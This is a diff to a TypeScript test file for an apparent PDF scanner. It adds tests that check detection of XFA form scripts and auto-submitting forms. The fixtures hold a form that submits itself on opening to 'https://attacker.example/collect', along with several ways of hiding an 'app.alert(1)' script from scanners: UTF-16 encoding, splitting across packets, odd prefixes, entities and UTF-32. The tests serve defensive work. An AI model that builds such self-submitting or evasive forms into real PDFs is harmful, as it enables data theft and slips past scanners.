@@ -77,15 +77,27 @@ describe('a PDF with something that runs', () => {
     expect(await inspectPdf(chained)).toEqual({ kind: 'active', found: 'SubmitForm action that runs by itself' });
   });
 
+  /** A PDF whose form is XFA, its packets each a deflated stream. */
+  const xfa = (...packets: Array<string | Uint8Array>) =>
+    madePdf((doc, context) =>
+      doc.catalog.set(
+        PDFName.of('AcroForm'),
+        context.obj({
+          Fields: [],
+          XFA: packets.flatMap((packet, i) => [
+            PDFString.of(`packet${i}`),
+            context.register(context.flateStream(packet)),
+          ]),
+        }),
+      ),
+    );
+  const script = '<template><subform><event activity="initialize"><script>app.alert(1)</script></event>';
+  const utf16 = (text: string, order: 'le' | 'be', mark = true) => {
+    const bytes = Buffer.from(`${mark ? '\ufeff' : ''}${text}`, 'utf16le');
+    return order === 'le' ? bytes : bytes.swap16();
+  };
+
   it('is found in an XFA form script', async () => {
-    const xfa = (xml: string) =>
-      madePdf((doc, context) =>
-        doc.catalog.set(
-          PDFName.of('AcroForm'),
-          context.obj({ Fields: [], XFA: [PDFString.of('template'), context.register(context.flateStream(xml))] }),
-        ),
-      );
-    const script = '<template><subform><event activity="initialize"><script>app.alert(1)</script></event>';
     expect(await inspectPdf(await xfa(`<xdp:xdp>${script}</subform></template></xdp:xdp>`))).toEqual({
       kind: 'active',
       found: 'XFA script',
@@ -93,6 +105,54 @@ describe('a PDF with something that runs', () => {
     expect(await inspectPdf(await xfa('<xdp:xdp><template><subform/></template></xdp:xdp>'))).toEqual({
       kind: 'clean',
     });
+  });
+
+  it('is found in an XFA form in UTF-16, split across packets, or under any prefix', async () => {
+    const form = `<?xml version="1.0" encoding="UTF-16"?><xdp:xdp>${script}</subform></template></xdp:xdp>`;
+    for (const packets of [
+      [utf16(form, 'le')],
+      [utf16(form, 'be')],
+      [utf16(form, 'le', false)],
+      [utf16(form, 'be', false)],
+      ['<xdp:xdp><template><subform><event activity="initialize"><scr', 'ipt>app.alert(1)</script></event>'],
+      ['<xdp:xdp><template><subform><event activity="initialize"><ü:script>app.alert(1)</ü:script></event>'],
+    ])
+      expect(await inspectPdf(await xfa(...packets))).toEqual({ kind: 'active', found: 'XFA script' });
+    const plain = '<?xml version="1.0" encoding="UTF-16"?><xdp:xdp><template><subform/></template></xdp:xdp>';
+    expect(await inspectPdf(await xfa(utf16(plain, 'le')))).toEqual({ kind: 'clean' });
+    expect(await inspectPdf(await xfa(Buffer.from(`\ufeff${plain.replace('UTF-16', 'UTF-8')}`)))).toEqual({
+      kind: 'clean',
+    });
+  });
+
+  it('is found in an XFA form that submits itself, on opening or on any event', async () => {
+    const submit = '<submit format="xml" target="https://attacker.example/collect"/>';
+    for (const form of [
+      `<xdp:xdp><template><subform><event activity="initialize">${submit}</event></subform></template></xdp:xdp>`,
+      `<xdp:xdp><template><subform><event activity="docReady"><execute connection="c"/></event></subform></template></xdp:xdp>`,
+    ])
+      expect(await inspectPdf(await xfa(form))).toEqual({ kind: 'active', found: 'XFA submission' });
+  });
+
+  it('leaves unchecked an XFA form that declares entities, or is in an encoding it does not read', async () => {
+    const entity =
+      '<?xml version="1.0"?><!DOCTYPE xdp [<!ENTITY s "&#60;script&#62;app.alert(1)&#60;/script&#62;">]>' +
+      '<xdp:xdp><template><subform><event activity="initialize">&s;</event></subform></template></xdp:xdp>';
+    expect(await inspectPdf(await xfa(entity))).toEqual({
+      kind: 'unchecked',
+      why: 'an XFA form declares a document type',
+    });
+    const form = `<xdp:xdp>${script}</subform></template></xdp:xdp>`;
+    const utf32 = Buffer.alloc(4 * (form.length + 1));
+    [...`\ufeff${form}`].forEach((ch, i) => utf32.writeUInt32LE(ch.codePointAt(0)!, 4 * i));
+    for (const packets of [
+      [utf32],
+      ['<xdp:xdp>', utf16(`${script}</subform></template></xdp:xdp>`, 'le', false).subarray(1)],
+    ])
+      expect(await inspectPdf(await xfa(...packets))).toEqual({
+        kind: 'unchecked',
+        why: 'an XFA form is in an encoding this reader does not read',
+      });
   });
 
   it('is found when an object header holds comments, which are white space (ISO 32000 §7.2.3)', async () => {
